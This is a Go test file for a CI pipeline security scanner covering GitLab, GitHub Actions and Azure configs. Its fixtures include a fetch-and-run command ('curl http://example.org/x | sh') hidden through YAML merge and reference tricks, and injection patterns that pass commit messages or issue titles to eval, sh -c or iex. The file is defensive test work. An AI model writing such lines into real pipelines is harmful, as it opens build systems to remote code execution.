package iac

import (
	"strings"
	"testing"
	"time"
)

// GitLab reads YAML by Ruby's reader. Where it sees another script than a reader of YAML
// does, that script is the one that runs.
func TestScriptsOfGitLabAreThoseThatRun(t *testing.T) {
	const curl = "curl http://example.org/x | sh"
	evil := ".x: [&evil {script: ['" + curl + "']}]\n"
	inTable(t, "VP-GLC-003", ".gitlab-ci.yml", "", []pipelineCase{
		{"what is merged behind a key replaces it", evil + "a:\n  script: [make]\n  <<: *evil\n", "medium a.script"},
		{"in front of it does not", evil + "a:\n  <<: *evil\n  script: [make]\n", ""},
		{"a merge in quotes", evil + "a:\n  \"<<\": *evil\n", "medium a.script"},
		{"the first of several", evil + "a:\n  <<: [*evil, {script: [make]}]\n", "medium a.script"},
		{"a reference to what is no script", ".x: {y: {z: ['" + curl + "']}}\na: {script: [!reference [.x, y, z]]}\n", "medium a.script"},
		{"to another file", "include: b.yml\na: {script: [!reference [.x, y]]}\n\n-- b.yml --\n.x: {y: ['" + curl + "']}\n", "medium a.script"},
		{"to a script, which is told there", ".x: {script: ['" + curl + "']}\na: {script: [!reference [.x, script]]}\n", "medium .x.script"},
		{"to itself", ".x: {y: [!reference [.x, y]]}\na: {script: [!reference [.x, y]]}\n", ""},
		{"before the sources are there", "a: {script: [x], hooks: {pre_get_sources_script: ['" + curl + "']}}\n", "medium a.hooks"},
		{"steps of a job", "a: {run: [{name: b, script: '" + curl + "'}]}\n", "medium a.run"},
		{"behind a head", "spec: {inputs: {}}\n---\na: {script: ['" + curl + "']}\n", "medium a.script"},
	})
	for name, text := range map[string]string{
		"a second document":          "a: {script: ['" + curl + "']}\n---\na: {script: [make]}\n",
		"a third one":                "spec: {}\n---\na: {script: ['" + curl + "']}\n---\na: {script: [make]}\n",
		"a text that is called null": "a: {script: [!!null '" + curl + "']}\n",
		"a text that is encoded":     "a: {script: [!!binary 'Y3VybA==']}\n",
		"a list that is a mapping":   "a: {script: [x]}\n.b: !!omap [{script: ['" + curl + "']}]\n",
	} {
		if r := judged(t, ".gitlab-ci.yml", text); len(r.Problems) != 1 || r.Problems[0].Check != Invalid {
			t.Errorf("%s is read as one reader does, and another runs it: %+v", name, r.Problems)
		}
	}
}

// A check that looks for what is unsafe and cannot fail is none, however that is said.
func TestGatesOfGitLabThatCannotFail(t *testing.T) {
	inTable(t, "VP-GLC-001", ".gitlab-ci.yml", "", []pipelineCase{
		{"by the job", "a: {script: [verdict ci .], allow_failure: true}\n", "high a"},
		{"by its code", "a: {script: [verdict ci .], allow_failure: {exit_codes: [3]}}\n", "high a"},
		{"by a job that it extends", ".s: {allow_failure: true}\n.t: {extends: .s}\na: {extends: [.t], script: [verdict ci .]}\n", "high a"},
		{"what it extends looks", ".s: {script: [verdict ci .]}\na: {extends: .s, allow_failure: true}\n", "high a"},
		{"of another file", "include: b.yml\na: {extends: .s, script: [verdict ci .]}\n\n-- b.yml --\n.s: {allow_failure: true}\n", "high a"},
		{"by a rule", "a: {script: [verdict ci .], rules: [{when: always, allow_failure: true}]}\n", "high a"},
		{"a code that is no finding", "a: {script: [verdict ci .], allow_failure: {exit_codes: 137}}\n", ""},
		{"said otherwise", ".s: {allow_failure: true}\na: {extends: .s, script: [verdict ci .], allow_failure: false}\n", ""},
		{"by hand", "a: {script: [verdict ci .], rules: [{when: manual, allow_failure: true}]}\n", ""},
		{"another job", ".s: {allow_failure: true}\na: {extends: .s, script: [make]}\n", ""},
		{"jobs that extend each other", "a: {extends: b, script: [verdict ci .]}\nb: {extends: a}\n", ""},
	})
	inTable(t, "VP-GLC-004", ".gitlab-ci.yml", "", []pipelineCase{
		{"by a rule of the pipeline", "workflow: {rules: [{when: always, variables: {CI_DEBUG_TRACE: 'true'}}]}\na: {script: [x]}\n", "high variables"},
		{"by a rule of a job", "a: {script: [x], rules: [{variables: {CI_DEBUG_TRACE: 'true'}}]}\n", "high a"},
		{"by a reference", ".x: {y: {CI_DEBUG_TRACE: 'true'}}\na: {script: [x], variables: !reference [.x, y]}\n", "high a"},
	})
	inTable(t, "VP-GLC-002", ".gitlab-ci.yml", "a: {script: [x]}\n", []pipelineCase{
		{"in a pipeline that a job starts", "b: {trigger: {include: [{remote: 'http://example.org/x.yml'}]}}\n", "high include"},
		{"a component that moves", "include: [{component: $CI_SERVER_FQDN/g/c/x@~latest}]\n", "medium include"},
		{"a component", "include: [{component: $CI_SERVER_FQDN/g/c/x@1.2.3}]\n", ""},
	})
}

// Who can push a branch must not stop the check of everything by a few lines.
func TestJobsThatExtendEachOtherManyTimesEnd(t *testing.T) {
	text := ""
	for _, c := range "abcdefghijk" {
		text += "." + string(c) + ": {extends: [" + strings.Repeat("."+string(c+1)+", ", 50) + "], x: [" + strings.Repeat("!reference [."+string(c+1)+", x], ", 50) + "]}\n"
	}
	start := time.Now()
	judged(t, ".gitlab-ci.yml", text+"z: {extends: .a, script: [!reference [.a, x]]}\n")
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("it took %s", d)
	}
}

// In quotes a message is a text, until a shell reads the line once more.
func TestMessagesThatAreReadAsCommands(t *testing.T) {
	inTable(t, "VP-GLC-005", ".gitlab-ci.yml", "", []pipelineCase{
		{"eval", "a: {script: ['eval \"echo $CI_COMMIT_MESSAGE\"']}\n", "high a.script"},
		{"a shell of its own", "a: {script: ['docker run x sh -ec \"echo ${CI_MERGE_REQUEST_TITLE}\"']}\n", "high a.script"},
		{"on another machine", "a: {script: ['ssh u@h \"deploy $CI_COMMIT_REF_NAME\"']}\n", "medium a.script"},
		{"by a variable", "variables: {M: 'x $CI_COMMIT_TITLE'}\na: {script: ['eval \"echo $M\"']}\n", "high a.script"},
		{"in single quotes", "a: {script: [\"sh -c 'echo $CI_COMMIT_MESSAGE'\"]}\n", ""},
		{"as a text", "a: {script: ['echo \"$CI_COMMIT_MESSAGE\"', 'sh -c x']}\n", ""},
		{"what is made safe", "a: {script: ['ssh u@h \"deploy $CI_COMMIT_REF_SLUG\"']}\n", ""},
	})
	inTable(t, "VP-GHA-018", workflowPath, "", []pipelineCase{
		{"eval", steps("issues", "    - env: {T: '${{ github.event.issue.title }}'}\n      run: eval \"echo $T\"\n"), "critical jobs.a.steps[0]"},
		{"PowerShell", steps("pull_request", "    - env: {T: '${{ github.head_ref }}'}\n      run: iex \"git checkout $env:T\"\n"), "high jobs.a.steps[0]"},
		{"another variable", steps("issues", "    - env: {T: '${{ github.event.issue.title }}'}\n      run: eval \"echo $TITLE\"\n"), ""},
	})
	inTable(t, "VP-AZP-010", "azure-pipelines.yml", "", []pipelineCase{
		{"eval", "steps:\n- bash: eval \"echo $BUILD_SOURCEVERSIONMESSAGE\"\n", "high steps[0]"},
		{"as a text", "steps:\n- bash: echo \"$BUILD_SOURCEVERSIONMESSAGE\"\n", ""},
	})
}
